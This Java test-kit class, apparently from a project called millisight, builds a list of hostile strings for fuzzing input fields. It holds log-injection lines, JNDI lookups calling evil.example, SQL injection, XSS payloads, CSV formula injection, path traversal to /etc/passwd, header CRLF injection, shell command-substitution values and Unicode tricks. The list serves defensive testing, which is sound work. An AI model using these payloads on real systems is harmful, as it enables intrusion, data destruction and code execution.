package io.millisight.testkit;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Texts that have broken logs, databases, spreadsheets, terminals, browsers and parsers: what a client may write into every
 * field that it has a say in. The plain ones first, then each in the company of others and at the lengths where texts are cut.
 */
public final class HostileTexts {

    /** No field takes more, and nothing is promised of it but that it is cut. */
    private static final int LONGEST = 65_536;

    private static final String HIGH = "\ud83d";
    private static final String LOW = "\udc4d";
    private static final String THUMB = HIGH + LOW;

    private static final List<String> PLAIN = List.of(
            // lines and terminals
            "\r\n",
            "\n",
            "\r",
            "a\r\nINFO millisight.requests - GET /forged - 200 - 0.01ms",
            "a\nWARN millisight - forged",
            "a\u0085forged",
            "a\u2028forged",
            "a\u2029forged",
            "a\u000bforged\u000cforged",
            "\u001b[2J\u001b[31mred\u001b[0m",
            "\u001b]0;title\u0007",
            "\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\",
            "\u009b31mred",
            "\b\b\b\b\bover",
            "\u007f",
            "\u0000",
            "before\u0000behind",
            "\u0001\u0002\u0003\u001f",
            "\ttab",
            // names that a logger might look up
            "${jndi:ldap://evil.example/a}",
            "${jndi:dns://evil.example}",
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            "${env:PATH}",
            "$${env:PATH}",
            "%d{ISO8601} %m%n %X{user}",
            "{}",
            "{} {} {}",
            "%s%n%x",
            "#{7*7}",
            "{{7*7}}",
            "<%= 7*7 %>",
            "T(java.lang.Runtime).getRuntime()",
            // databases
            "'",
            "''",
            "\"",
            "`",
            "'; DROP TABLE endpoint; --",
            "' OR '1'='1",
            "x' UNION SELECT sql FROM sqlite_master --",
            "\\'; DELETE FROM request_block; --",
            "1; PRAGMA writable_schema=1",
            "/* */ -- #",
            "%",
            "_",
            "*",
            "?",
            ":name @name $1",
            "\u02bc or \uff07",
            // pages
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "\"><svg onload=alert(1)>",
            "' onmouseover='alert(1)",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "&lt;script&gt;",
            "&#x3c;b&#x3e;",
            "\\u003cb\\u003e",
            "\ufe64b\ufe65",
            "<b>bold</b>",
            "<a href=http://evil.example>",
            "<iframe src=//evil.example>",
            "<style>*{display:none}</style>",
            "expression(alert(1))",
            "<math><mtext></p><style><img src=x onerror=alert(1)>",
            // JSON
            "\"",
            "\\",
            "\\\"",
            "\\u0022",
            "\\u000a",
            "\",\"admin\":true,\"x\":\"",
            "\"}]}",
            "{\"a\":1}",
            "[1,2",
            "null",
            "true",
            "1e999",
            "-0",
            "NaN",
            "__proto__",
            "constructor",
            // spreadsheets and CSV
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\uff1d1+1",
            "\uff0b1",
            "\uff0d1",
            "\uff20SUM(1)",
            "a,b",
            "a;b",
            "a\"b",
            "\"a\",\"b\"",
            "a\r\nb,c",
            "'=1+1",
            " =1+1",
            // Unicode
            HIGH,
            LOW,
            LOW + HIGH,
            HIGH + HIGH + LOW,
            "a" + HIGH,
            LOW + "a",
            "\u202egnp.exe",
            "\u202dabc\u202c",
            "\u2066a\u2067b\u2068c\u2069",
            "\u200e\u200f\u061c",
            "zero\u200bwidth\u200cjoiner\u200d",
            "\ufeffmark",
            "\ufffe\uffff",
            "soft\u00adhyphen",
            "\ud83c\udff4\udb40\udc67\udb40\udc62", // tags, invisible
            "\udb40\udc01",
            "\udbff\udfff",
            "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
            "\u1160\u3164\uffa0",
            "\u0130\u0131\u017f",
            "\ufdfa",
            THUMB,
            "\u6f22\u5b57",
            "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
            // bytes that are not UTF-8, as somebody read them
            new String(new byte[] {(byte) 0xc0, (byte) 0xaf}, StandardCharsets.ISO_8859_1),
            new String(new byte[] {(byte) 0xff, (byte) 0xfe}, StandardCharsets.ISO_8859_1),
            new String(new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}, StandardCharsets.ISO_8859_1),
            new String(new byte[] {(byte) 0xc3, '('}, StandardCharsets.UTF_8),
            // paths and headers
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f",
            "%00",
            "%0d%0aSet-Cookie:%20a=b",
            "a\r\nSet-Cookie: a=b",
            "a\r\n\r\n<html>",
            "file:///etc/passwd",
            "http://evil.example/",
            "//evil.example",
            "|id",
            ";id",
            "`id`",
            "$(id)",
            "&& id",
            // names of ours
            "{other}",
            "{unmatched}",
            "{id}",
            "_OTHER",
            "GET /x",
            " ",
            "  ",
            "\u00a0",
            "\u3000");

    private HostileTexts() {}

    /** All of them, each once; more than 300. */
    public static List<String> all() {
        Set<String> texts = new LinkedHashSet<>(PLAIN);
        for (String plain : PLAIN) {
            if (texts.size() < 290) {
                texts.add("ordinary " + plain + " ordinary");
            }
        }
        for (int length : new int[] {254, 255, 256, 1_023, 1_024, LONGEST}) {
            texts.add("x".repeat(length));
            texts.add("x".repeat(length - 1) + THUMB);
            texts.add("\u6f22".repeat(length));
            texts.add("<".repeat(length));
            texts.add("\n".repeat(length));
            texts.add("\"".repeat(length));
        }
        return new ArrayList<>(texts);
    }
}
